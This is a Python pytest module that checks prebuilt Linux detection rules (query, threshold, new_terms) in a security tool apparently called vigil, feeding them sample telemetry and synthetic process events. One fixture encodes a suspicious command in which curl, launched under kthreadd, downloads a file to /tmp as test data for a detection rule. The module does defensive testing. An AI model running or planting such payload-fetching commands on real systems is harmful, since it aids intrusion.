"""Every prebuilt Linux query / threshold / new_terms rule in ../shared loads, compiles and runs without error.

The events are vigil's bundled sample telemetry (seven formats, real shapes), moved into each rule's window and
indexed under a name each rule's index patterns select, so every rule really searches them.
"""

from __future__ import annotations

import collections
import datetime as dt
import glob

import orjson
import pytest

from tests.conftest import REPO, shared_path
from vigil.alerts import AlertStore
from vigil.alerts.times import js_iso
from vigil.rules import load_rule_file
from vigil.runs.executor import compile_rule, execute_rule
from vigil.runs.hunt import hunt
from vigil.sources import open_sources
from vigil.sources.base import Record

T = dt.datetime(2026, 11, 28, 14, 10, tzinfo=dt.timezone.utc)
KQL_TYPES = ("query", "threshold", "new_terms")


@pytest.fixture(scope="module")
def kql_rules():
    # only the files that declare a KQL type are loaded (loading all 360 takes long and is tested elsewhere)
    wanted = tuple(f'type = "{kind}"' for kind in KQL_TYPES)
    paths = sorted(p for p in shared_path("rules", "elastic").rglob("*.toml")
                   if any(w in p.read_text(encoding="utf-8") for w in wanted))
    rules = [load_rule_file(p) for p in paths]
    rules = [r for r in rules if r.type in KQL_TYPES]
    assert rules, "no KQL rules found"
    return rules


@pytest.fixture(scope="module")
def samples():
    samples = REPO / "vigil" / "data" / "samples"
    paths = sorted(glob.glob(str(samples / "*.ndjson"))) + [str(samples / "auditd.log")]
    return list(open_sources(paths))


@pytest.fixture(scope="module")
def moved(samples):
    """The sample documents, one minute before T and on (one per second before that)."""
    docs = []
    for i, record in enumerate(samples):
        doc = orjson.loads(orjson.dumps(record.doc))
        doc["@timestamp"] = js_iso(T - dt.timedelta(seconds=60 + i))
        if isinstance(doc.get("event"), dict):
            doc["event"].pop("ingested", None)
        docs.append(doc)
    return docs


def _for_rule(rule, samples, moved):
    """The moved samples under a concrete index of the rule's first pattern."""
    index = rule.index[0].replace("*", "x") if rule.index else "logs-x"
    return [Record(doc=doc, index=index, id=r.id, path=r.path, line=r.line, source=r.source)
            for doc, r in zip(moved, samples)]


def test_every_kql_rule_is_runnable_and_compiles(kql_rules):
    counts = collections.Counter(r.type for r in kql_rules)
    assert counts["new_terms"] >= 59 and counts["query"] >= 17 and counts["threshold"] >= 3
    for rule in kql_rules:
        assert rule.runnable, rule.label
        assert compile_rule(rule).kind == "event"


def test_every_kql_rule_runs_and_hunts_without_error(tmp_path, kql_rules, samples, moved):
    by_type: dict[str, collections.Counter] = collections.defaultdict(collections.Counter)
    with AlertStore(tmp_path / "alerts.db") as store:
        for rule in kql_rules:
            records = _for_rule(rule, samples, moved)
            result = execute_rule(rule, records, store=store, started_at=T)
            assert not result.errors, (rule.label, result.errors)
            assert result.events_searched == len(records), rule.label
            by_type[rule.type]["rules"] += 1
            by_type[rule.type]["alerts"] += len(result.alerts)
            [found] = hunt([rule], records, store=store)
            assert found.error is None, (rule.label, found.error)
    assert sum(c["rules"] for c in by_type.values()) == len(kql_rules)
    print({kind: dict(c) for kind, c in by_type.items()})


def _process(n: int, at: dt.datetime, **process) -> Record:
    doc = {"@timestamp": js_iso(at), "event": {"category": ["process"], "type": ["start"], "action": "exec",
                                               "ingested": js_iso(at)},
           "host": {"id": "h-1", "name": "web-01", "os": {"type": "linux"}}, "user": {"name": "root"},
           "process": process}
    return Record(doc=doc, index="logs-endpoint.events.process-default", id=f"p{n}", path="t.ndjson", line=n)


def test_prebuilt_threshold_and_new_terms_rules_fire(tmp_path):
    base = shared_path("rules", "elastic", "linux")
    kills = load_rule_file(base / "impact_process_kill_threshold.toml")  # 15 kills per host/executable/user
    kthreadd = load_rule_file(base / "execution_unusual_kthreadd_execution.toml")  # new (process.name, host.id)
    records = [_process(i, T - dt.timedelta(seconds=200 - i), name="kill", executable="/usr/bin/kill",
                        args=["kill", "-9", str(4000 + i)]) for i in range(15)]
    records.append(_process(99, T - dt.timedelta(seconds=30), name="curl", executable="/usr/bin/curl",
                            command_line="curl http://x/a -o /tmp/a", parent={"name": "kthreadd"}))
    with AlertStore(tmp_path / "alerts.db") as store:
        [bucket] = execute_rule(kills, records, store=store, started_at=T).alerts
        assert bucket.doc["kibana.alert.threshold_result"]["count"] == 15
        assert [t["value"] for t in bucket.doc["kibana.alert.threshold_result"]["terms"]] == \
            ["h-1", "/usr/bin/kill", "root"]
        [new] = execute_rule(kthreadd, records, store=store, started_at=T).alerts
        assert new.doc["kibana.alert.new_terms"] == ["curl", "h-1"]
        assert execute_rule(kills, records[:14], store=store, started_at=T + dt.timedelta(minutes=5)).alerts == []
